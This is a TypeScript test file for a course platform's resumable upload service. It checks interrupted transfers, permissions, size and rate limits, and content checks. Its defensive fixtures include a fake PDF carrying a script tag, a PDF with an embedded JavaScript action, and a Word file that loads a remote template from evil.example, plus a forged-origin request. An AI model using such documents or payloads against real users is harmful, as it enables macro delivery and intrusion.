/** Uploads: what came stays when the line is cut, strangers find nothing, and what is not what it says goes away. */
import { randomBytes } from 'node:crypto'
import { access, mkdir, readdir, readFile, stat, utimes, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import { mostBytes, uploadsPath } from '#contracts/authoring/library.ts'
import { postOfficeToken } from '#contracts/integrations/tokens.office.ts'
import { zipOf } from '#tests/zip-of.ts'
import { sql } from '#server/platform/postgres/database.ts'
import { tidyUploads } from './finish-upload.ts'
import { arrivingFolder, keyOf } from './places-of-file.ts'
import { uploadWorld } from './upload-world.ts'

let w: Awaited<ReturnType<typeof uploadWorld>>
beforeAll(async () => {
  w = await uploadWorld()
})
afterAll(() => w.academy.close())

const idOf = (path: string) => path.slice(path.lastIndexOf('/') + 1)
const isThere = (path: string) =>
  access(path).then(
    () => true,
    () => false,
  )
const arriving = (id: string) => join(arrivingFolder(w.academy.config.dataDir), id)

test('a file arrives byte by byte over a line that is cut twice', async () => {
  const body = Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(3_000_000)])
  const begun = await w.begin(w.mentor, { name: 'Line plan (v2).pdf', bytes: body.length })
  expect(begun?.status).toBe(201)
  const path = String(begun?.headers.location)
  expect(path).toMatch(new RegExp(`^${uploadsPath}/[\\da-f-]{36}$`))
  expect(begun?.headers['x-content-type-options']).toBe('nosniff')
  expect(begun?.headers['access-control-allow-origin']).toBeUndefined()
  expect((await stat(arrivingFolder(w.academy.config.dataDir))).mode & 0o077).toBe(0)
  let offset = 0
  for (const cutAt of [1_000_000, 700_000]) {
    await w.patch(w.mentor, path, offset, body.subarray(offset), { cutAt })
    const asked = await vi.waitFor(
      async () => {
        const answer = await w.send('HEAD', path, { as: w.mentor })
        const at = Number(answer?.headers['upload-offset'])
        if (!(at > offset)) throw new Error(`It stands at ${at}`)
        return at
      },
      { timeout: 15_000 },
    )
    expect(asked).toBeLessThan(body.length)
    offset = asked
  }
  expect((await w.patch(w.mentor, path, 0, Buffer.from('%PDF')))?.status).toBe(409)
  expect((await w.patch(w.mentor, path, offset, body.subarray(offset)))?.status).toBe(204)
  const file = await w.settled(idOf(path))
  expect(file).toMatchObject({ state: 'ready', address: `/media/uploads/films/${file.folder}/Line-plan-v2.pdf` })
  const stored = await w.academy.storage.get(keyOf(file, 'Line-plan-v2.pdf'))
  expect(Buffer.concat(await stored!.body.toArray()).equals(body)).toBe(true)
  expect(await isThere(arriving(idOf(path)))).toBe(false)
  const asked = await w.send('HEAD', path, { as: w.mentor })
  expect([asked?.status, asked?.headers['upload-offset']]).toEqual([200, String(body.length)])
  expect((await w.patch(w.mentor, path, body.length, Buffer.from('more')))?.status).toBe(404)
})

test('only authors of the course begin, and only who began goes on', async () => {
  const learner = await w.academy.learner()
  expect((await w.begin(undefined))?.status).toBe(401)
  expect((await w.begin(learner))?.status).toBe(404)
  expect((await w.begin(w.otherMentor))?.status).toBe(404)
  expect((await w.begin(await w.academy.staff('courses.view')))?.status).toBe(403)
  const path = String((await w.begin(w.mentor))?.headers.location)
  const scopes = ['courses.view', 'courses.edit']
  const made = await w.academy.call(postOfficeToken, { body: { name: 'Sync', scopes } }, { as: w.editor })
  expect((await w.begin({ ...w.editor, token: made.body.data.token }))?.status).toBe(403)
  for (const stranger of [w.otherMentor, w.editor, learner]) {
    expect((await w.send('HEAD', path, { as: stranger }))?.status).toBe(404)
    expect((await w.patch(stranger, path, 0, Buffer.from('hello')))?.status).toBe(404)
    expect((await w.send('DELETE', path, { as: stranger }))?.status).toBe(404)
  }
  expect((await w.stateOf(idOf(path)))?.state).toBe('arriving')
})

test('nobody uploads as somebody else, and what the protocol cannot take leaves nothing behind', async () => {
  const count = async () =>
    (await w.academy.database.first<{ n: number }>(sql`select count(*)::int as n from library_file`))?.n
  const before = await count()
  const boss = await w.academy.staff('users.view', 'users.approve', 'courses.view', 'courses.edit')
  await w.academy.database.run(
    sql`update session set acted_by = ${boss.personId} where person_id = ${w.mentor.personId}`,
  )
  const refused = await w.begin(w.mentor)
  expect([refused?.status, JSON.parse(refused?.text ?? '').error.code]).toEqual([403, 'not_while_acting'])
  await w.academy.database.run(sql`update session set acted_by = null where person_id = ${w.mentor.personId}`)
  for (const [name, value] of [
    ['upload-concat', 'partial'],
    ['upload-length', '1e3'],
    ['upload-length', '-5'],
  ] as const)
    expect((await w.begin(w.mentor, {}, { [name]: value }))?.status, `${name}: ${value}`).toBe(422)
  expect(await count()).toBe(before)
})

test('another site cannot use a session, nor another method the name of one', async () => {
  const headers = { origin: 'https://evil.example' }
  expect((await w.begin(w.mentor, {}, headers))?.status).toBe(403)
  const path = String((await w.begin(w.mentor))?.headers.location)
  await w.send('HEAD', path, { as: w.mentor, headers: { 'x-http-method-override': 'DELETE' } })
  expect((await w.send('HEAD', path, { as: w.mentor }))?.status).toBe(200)
  expect((await w.send('GET', path, { as: w.mentor }))?.status).toBe(404)
})

test.each([
  [{ name: 'page.html' }, 415],
  [{ name: 'drawing.svg' }, 415],
  [{ name: 'film.mp4' }, 415],
  [{ name: 'film' }, 415],
  [{ kind: 'video', name: 'film.mp4', bytes: mostBytes.video + 1 }, 413],
  [{ kind: 'audio', name: 'talk.mp3', bytes: mostBytes.audio + 1 }, 413],
  [{ name: 'plan.pdf', bytes: mostBytes.file + 1 }, 413],
  [{ name: 'plan.pdf', bytes: 0 }, 422],
  [{ kind: 'page', name: 'plan.pdf' }, 422],
])('refuses %j', async (given, status) => {
  expect((await w.begin(w.mentor, given))?.status).toBe(status)
})

test('twenty under way of one person, whoever begins several at the same moment', async () => {
  const hasty = await w.academy.staff('courses.view', 'courses.edit')
  const begun = await Promise.all(Array.from({ length: 26 }, () => w.begin(hasty, { name: 'a.pdf', bytes: 1024 })))
  expect(begun.filter((answer) => answer?.status === 201)).toHaveLength(20)
})

test('so much a day from one person', async () => {
  const busy = await w.academy.staff('courses.view', 'courses.edit')
  await w.academy.database.run(sql`
    insert into rate_limit (key, uses, resets_at) values (${`library:${busy.personId}`}, 20479, now() + interval '1 hour')`)
  expect((await w.begin(busy, { name: 'a.pdf', bytes: 2 * 1024 * 1024 }))?.status).toBe(429)
  expect((await w.begin(busy, { name: 'a.pdf', bytes: 1024 }))?.status).toBe(201)
})

test.each([
  ['file', 'plan.pdf', Buffer.from('<html><script>alert(1)</script></html>')],
  ['file', 'table.docx', Buffer.from('PK\u0003\u0004 but nothing more')],
  ['file', 'notes.txt', Buffer.from('<!doctype html><p>Hello')],
  ['file', 'notes.csv', Buffer.from([0x41, 0xff, 0xfe, 0x00])],
  ['video', 'film.mp4', Buffer.from('%PDF-1.7 this is no film')],
  ['audio', 'talk.wav', Buffer.from('RIFF0000WEBPVP8 ')],
])('%s %s with other bytes fails and leaves nothing', async (kind, name, body) => {
  const id = await w.upload(w.mentor, { kind, name, body })
  expect(await w.settled(id)).toMatchObject({ state: 'failed', failure: 'wrong_content', address: null, parts: [] })
  expect(await isThere(arriving(id))).toBe(false)
})

test('a PDF that acts by itself fails and leaves nothing', async () => {
  const body = Buffer.from('%PDF-1.7\n1 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n%%EOF')
  const id = await w.upload(w.mentor, { kind: 'file', name: 'plan.pdf', body })
  expect(await w.settled(id)).toMatchObject({ state: 'failed', failure: 'active_pdf', address: null, parts: [] })
  expect(await isThere(arriving(id))).toBe(false)
})

test('a document that fetches something when it is opened fails and leaves nothing', async () => {
  const relation =
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>'
  const document = (relations: string) =>
    zipOf([
      { name: '[Content_Types].xml', content: '<Types/>' },
      { name: 'word/document.xml', content: '<document/>' },
      { name: 'word/_rels/settings.xml.rels', content: `<Relationships>${relations}</Relationships>` },
    ])
  const id = await w.upload(w.mentor, { kind: 'file', name: 'plan.docx', body: await document(relation) })
  expect(await w.settled(id)).toMatchObject({ state: 'failed', failure: 'active_document', address: null, parts: [] })
  expect(await isThere(arriving(id))).toBe(false)
  const plain = await w.upload(w.mentor, { kind: 'file', name: 'plan.docx', body: await document('') })
  expect(await w.settled(plain)).toMatchObject({ state: 'ready' })
})

test('bytes that only begin like a film fail when they are read', async () => {
  const body = Buffer.concat([Buffer.from('\0\0\0\u0018ftypisom', 'latin1'), randomBytes(4000)])
  const id = await w.upload(w.mentor, { kind: 'video', name: 'film.mp4', body })
  const file = await w.settled(id)
  // The bytes go after the state is said.
  await vi.waitFor(
    async () =>
      expect(await w.stateOf(id)).toMatchObject({ state: 'failed', failure: 'unreadable', address: null, parts: [] }),
    { timeout: 15_000 },
  )
  expect(await w.academy.storage.exists(keyOf(file, 'original.mp4'))).toBe(false)
})

test('cancelling and a day without an end leave nothing', async () => {
  const cancelled = String((await w.begin(w.mentor))?.headers.location)
  await w.patch(w.mentor, cancelled, 0, Buffer.from('hello'), { headers: { 'content-length': '5' } })
  expect((await w.send('DELETE', cancelled, { as: w.mentor }))?.status).toBe(204)
  expect(await w.stateOf(idOf(cancelled))).toBeUndefined()
  const [old, young, whole] = await Promise.all(
    [1, 2, 3].map(async () => idOf(String((await w.begin(w.mentor))?.headers.location))),
  )
  await w.academy.database.run(
    sql`update library_file set created_at = now() - interval '25 hours' where id = any (${[old, whole]}::uuid[])`,
  )
  await writeFile(arriving(whole!), 'ten bytes.')
  await mkdir(arrivingFolder(w.academy.config.dataDir), { recursive: true })
  await writeFile(arriving('unknown'), 'x')
  const longAgo = new Date(Date.now() - 72 * 3_600_000)
  await utimes(arriving('unknown'), longAgo, longAgo)
  await tidyUploads(w.academy.app.services)
  expect(await w.stateOf(old!)).toBeUndefined()
  expect((await w.stateOf(young!))?.state).toBe('arriving')
  expect(await w.settled(whole!)).toMatchObject({ state: 'ready' })
  expect(await isThere(arriving('unknown'))).toBe(false)
  const left = await readdir(arrivingFolder(w.academy.config.dataDir))
  expect(left).toContain(young)
  expect(left).not.toContain(idOf(cancelled))
  expect(left).not.toContain(old)
  expect(await readFile(arriving(young!), 'utf8')).toBe('')
})
